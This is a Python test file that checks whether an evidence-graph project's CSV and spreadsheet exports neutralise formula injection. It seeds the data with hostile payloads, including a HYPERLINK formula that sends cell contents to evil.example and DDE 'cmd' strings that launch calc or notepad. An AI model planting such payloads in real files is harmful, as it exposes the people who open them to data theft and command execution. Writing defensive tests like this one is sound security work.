"""CSV formula injection (issue 14 item 4): every CSV and sheet we write neutralises cells that a
spreadsheet would run as formulas (OWASP: leading = + - @ tab CR), through one shared function.

An evidence base is poisoned with formula-like labels, statements and titles (what an imported
bibliography could plant) and every download/export producer is run over it.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from graph.nx_backend import NetworkxBackend
from graph.provenance import export_csv
from graph.sparql import sparql
from loaders import csvsafe
from loaders.evidence import load_evidence_base
from loaders.writers.tabular import CsvWriter
from tests.fixtures.importers.support import mini_copy

ROOT = Path(__file__).resolve().parents[1]
EVIL_LABEL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
EVIL_STATEMENT = "@SUM(1+1)*cmd|' /C calc'!A0 Youth placed in foster care face a higher risk."
EVIL_TITLE = "+cmd|' /C notepad'!A0 Child welfare involvement and trafficking"
EVIL_PROGRAM = "-2+3+cmd|' /C calc'!A0 Safe Harbor Regional Navigators"

#: Modules allowed to use the csv module's writers directly.
EXEMPT = {
    "loaders/csvsafe.py",  # the shared function itself
    # W3C SPARQL 1.1 CSV results for machine clients (/sparql endpoint): values must round-trip
    # exactly, so they are not prefixed; browser downloads never go through it.
    "graph/sparql_protocol.py",
}


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> Path:
    ev = mini_copy(tmp_path_factory.mktemp("poison"))
    voc, evid = ev / "vocabulary.yaml", ev / "evidence.yaml"
    v = voc.read_text(encoding="utf-8")
    v = v.replace("label: Foster care placement", f"label: '{EVIL_LABEL}'", 1)
    assert EVIL_LABEL in v
    voc.write_text(v, encoding="utf-8")
    e = evid.read_text(encoding="utf-8")
    for old, new in (("statement: Youth placed in foster care face a higher risk of sex "
                      "trafficking.", f'statement: "{EVIL_STATEMENT}"'),
                     ("title: Child welfare involvement and trafficking",
                      f'title: "{EVIL_TITLE}"')):
        assert old in e, old
        e = e.replace(old, new, 1)
    evid.write_text(e, encoding="utf-8")
    for f in (voc, evid):
        t = f.read_text(encoding="utf-8")
        if "label: Safe Harbor Regional Navigators" in t:
            f.write_text(t.replace("label: Safe Harbor Regional Navigators",
                                   f'label: "{EVIL_PROGRAM}"', 1), encoding="utf-8")
    return ev


@pytest.fixture(scope="module")
def backend(poisoned: Path) -> NetworkxBackend:
    return NetworkxBackend.from_evidence_base(load_evidence_base(poisoned, use_cache=False))


def assert_safe(text: str, *must_contain: str) -> None:
    """No cell starts a formula; each poisoned value is present, neutralised."""
    body = "\n".join(line for line in text.splitlines() if not line.startswith("# "))
    cells = [c for row in csv.reader(io.StringIO(body)) for c in row]
    assert cells
    for c in cells:
        assert not c.startswith(csvsafe.FORMULA_START) or re.fullmatch(r"[+-]?[\d.]+", c), c
    for s in must_contain:
        assert any(c.startswith("'" + s[:12]) for c in cells), s


# ----------------------------------------------------------------------- the shared function
@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1",
                                   '=HYPERLINK("x")', "-cmd"])
def test_formula_leading_cells_get_an_apostrophe(value: str) -> None:
    assert csvsafe.neutralise(value) == "'" + value
    assert csvsafe.restore(csvsafe.neutralise(value)) == value


@pytest.mark.parametrize("value", ["-3", "+1.5", "-0.25", "1e5", "plain text", "", "a=b", 42,
                                   -7, None])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert csvsafe.neutralise(value) == value


@given(st.text())
def test_no_written_cell_can_start_a_formula(value: str) -> None:
    buf = io.StringIO()
    csvsafe.writer(buf).writerow([value])
    cell = next(csv.reader(io.StringIO(buf.getvalue())), [""])
    out = cell[0] if cell else ""
    if value == "":
        return
    assert not out.startswith(csvsafe.FORMULA_START) or csvsafe.neutralise(value) == value
    if not value.startswith("'"):
        assert csvsafe.restore(csvsafe.neutralise(value)) == value


def test_every_csv_writer_goes_through_csvsafe() -> None:
    """No module writes CSV with the csv module directly (so no future download forgets)."""
    offenders = []
    for pkg in ("loaders", "graph", "explorer", "cli", "benchmarks"):
        for p in sorted((ROOT / pkg).rglob("*.py")):
            rel = p.relative_to(ROOT).as_posix()
            if rel in EXEMPT:
                continue
            text = p.read_text(encoding="utf-8")
            if re.search(r"\bcsv\.(writer|DictWriter)\(|\.to_csv\((?!\))", text):
                offenders.append(rel)
    assert offenders == []


# ----------------------------------------------------------------------- every producer
def test_export_csv_folder(backend: NetworkxBackend, poisoned: Path, tmp_path: Path) -> None:
    w = CsvWriter(tmp_path / "out")
    for rec in load_evidence_base(poisoned, use_cache=False).records():
        (w.write_node if hasattr(rec, "label") else w.write_edge)(rec)  # type: ignore[arg-type]
    folder = w.finalize()
    assert_safe((folder / "nodes.csv").read_text(encoding="utf-8"), EVIL_LABEL, EVIL_TITLE)


def test_query_csv_download(backend: NetworkxBackend) -> None:
    q = ('SELECT ?s ?text WHERE { ?s ?p ?text FILTER(isLiteral(?text) && '
         '(STRSTARTS(STR(?text), "=") || STRSTARTS(STR(?text), "@"))) }')
    result = sparql(backend, q)
    text = export_csv(result, backend, q)
    assert_safe(text, EVIL_LABEL, EVIL_STATEMENT)


def test_evidence_claims_csv_download(backend: NetworkxBackend) -> None:
    from explorer import elements as el

    rows = [el.claim_row(c) for c in backend.claims()]
    assert_safe(el.claims_csv(rows), EVIL_STATEMENT)


def test_gap_map_csv_downloads(backend: NetworkxBackend) -> None:
    from explorer import elements as el
    from explorer import gapmap as gm

    cov = backend.coverage("Harm", "RiskFactor")
    for text in (el.coverage_csv(cov), gm.long_csv(cov)):
        assert_safe(text, EVIL_LABEL)


def test_program_sheet_export_csv_and_xlsx_round_trip(poisoned: Path, tmp_path: Path) -> None:
    import openpyxl

    from loaders.importers.sheet import SheetSource, export_sheet

    out_csv, out_xlsx = tmp_path / "programs.csv", tmp_path / "programs.xlsx"
    n = export_sheet(out_csv, poisoned)
    assert n >= 1
    assert_safe(out_csv.read_text(encoding="utf-8"), EVIL_PROGRAM)
    export_sheet(out_xlsx, poisoned)
    wb = openpyxl.load_workbook(out_xlsx)
    ws = wb["Programs"]
    values = [c for row in ws.iter_rows(values_only=True) for c in row if isinstance(c, str)]
    assert not any(v.startswith(csvsafe.FORMULA_START) for v in values)
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    assert "'" + EVIL_PROGRAM in values
    # reading our own sheet back gives the original text (no stray apostrophe)
    names = [r.cells["name"] for r in SheetSource(out_xlsx).rows()]
    assert EVIL_PROGRAM in names
